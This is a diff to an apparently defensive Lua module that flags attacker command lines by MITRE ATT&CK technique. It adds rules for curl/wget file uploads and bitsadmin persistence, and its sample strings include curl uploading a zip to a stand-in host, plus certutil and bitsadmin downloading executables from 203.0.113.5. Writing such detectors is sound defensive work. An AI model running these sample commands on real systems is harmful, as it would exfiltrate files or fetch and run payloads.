@@ -98,7 +98,31 @@ local function msdt_target(each)
         and "code-in-answers" or url(each)
 end
 
+-- Options of curl (case matters) and wget that send what they name.
+local SENDS = {
+    ["-F"] = true, ["-T"] = true, ["-d"] = true, ["--form"] = true, ["--upload-file"] = true, ["--data"] = true,
+    ["--data-binary"] = true, ["--post-file"] = true, ["--body-file"] = true,
+}
+
+local function sends(each)
+    for at = 2, #each.words do
+        if SENDS[each.words[at]:match "^[^=]+" or ""] then return true end
+    end
+    return false
+end
+
+-- Where a tool uploads a file to.
+local function upload_target(each)
+    local names_file = each.text:find("@", 1, true) or each.text:find("%-T%s") or each.folded:find("-file", 1, true)
+    return sends(each) and names_file and url(each) or nil
+end
+
 local ROWS = {
+    { id = "exfiltration.upload-tool", programs = { "curl", "wget" }, attack = "T1048", target = upload_target,
+      verb = "upload-with-tool", means = "tool", role = "url",
+      match = [[curl -s -F file=@C:\Users\Public\a.zip https://upload.example]],
+      other = [[curl -T C:\Users\x\a.zip ftp://203.0.113.5/]],
+      no_match = [[curl -d q=1 https://search.example]] },
     { id = "defense-evasion.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
       verb = "run-with-tool", name = "rundll32",
       match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
@@ -172,15 +196,25 @@ local ROWS = {
       verb = "download-with-tool", name = "certutil",
       match = [[certutil -urlcache -split -f http://203.0.113.5/a.exe C:\Users\x\a.exe]],
       no_match = "certutil -store my" },
+    { id = "persistence.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
+      target = function(each)
+          local at = command.position(each, "/setnotifycmdline")
+          return at and each.words[at + 2] or nil
+      end,
+      verb = "run-after-transfer", name = "bitsadmin", role = "command",
+      match = [[bitsadmin /SetNotifyCmdLine job C:\Users\x\a.exe NULL]],
+      no_match = "bitsadmin /setnotifyflags job 1" },
     { id = "command-and-control.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
       target = function(each)
-          return each:has("/transfer", "/addfile", "/setnotifycmdline") and (url(each) or "a-file") or nil
+          return each:has("/transfer", "/addfile") and (url(each) or "a-file") or nil
       end,
       verb = "transfer-with-tool", name = "bitsadmin",
       match = [[bitsadmin /transfer job http://203.0.113.5/a.exe C:\Users\x\a.exe]],
       no_match = "bitsadmin /list" },
     { id = "command-and-control.curl", programs = { "curl", "wget" }, attack = "T1105",
-      target = function(each, case) return url(each) and user_file(each, case) and url(each) or nil end,
+      target = function(each, case)
+          return not sends(each) and url(each) and user_file(each, case) and url(each) or nil
+      end,
       verb = "download-with-tool", means = "tool",
       match = [[curl -s http://203.0.113.5/a.exe -o C:\Users\x\AppData\Local\Temp\a.exe]],
       no_match = "curl http://203.0.113.5/status" },
